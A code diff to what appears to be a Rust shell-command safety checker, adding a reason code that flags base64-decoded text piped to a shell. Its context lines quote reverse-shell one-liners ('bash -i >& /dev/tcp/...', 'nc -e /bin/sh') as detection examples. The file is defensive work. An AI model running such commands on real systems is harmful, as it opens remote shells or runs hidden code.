@@ -61,6 +61,11 @@ pub const REASONS: &[ReasonDoc] = &[
         "A shell wired to a network socket (`bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`).",
     ),
     r("opaque.alias", Ask, "Aliases are defined or enabled: later command names may mean something else."),
+    r(
+        "opaque.decoded-script",
+        Ask,
+        "Runs text decoded at run time from a static string (`echo B64 | base64 -d | sh`): obfuscated, even when harmless.",
+    ),
     r("opaque.dynamic-command", Ask, "The command name is known only at run time."),
     r("opaque.dynamic-script", Ask, "Shell text run by `eval`, `sh -c`, `trap`, ... is known only at run time."),
     r(
